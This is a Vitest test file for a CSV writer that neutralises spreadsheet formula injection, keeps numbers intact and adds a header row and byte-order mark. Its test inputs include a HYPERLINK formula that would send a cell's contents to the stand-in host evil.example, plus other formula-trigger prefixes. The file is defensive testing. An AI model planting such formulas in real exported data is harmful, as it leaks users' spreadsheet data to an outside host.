import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.js';

describe('csv writer', () => {
  it('neutralises cells a spreadsheet would run as a formula', () => {
    for (const evil of [
      '=HYPERLINK("http://evil.example/?d="&A3,"Ver")',
      '+1+2',
      '-2+3',
      '@SUM(A1)',
      '\tx',
      '\rx',
    ]) {
      expect(csvCell(evil).startsWith("'")).toBe(true);
    }
  });

  it('keeps numbers, negative amounts included, as numbers', () => {
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell(3)).toBe('3');
    expect(csvCell(null)).toBe('');
  });

  it('writes a header row, quotes separators and starts with a byte-order mark', () => {
    const csv = toCsv(['Nombre', 'Monto'], [['Ávila, José', '10.00']]);
    expect(csv).toBe('\uFEFFNombre,Monto\r\n"Ávila, José",10.00\r\n');
  });
});
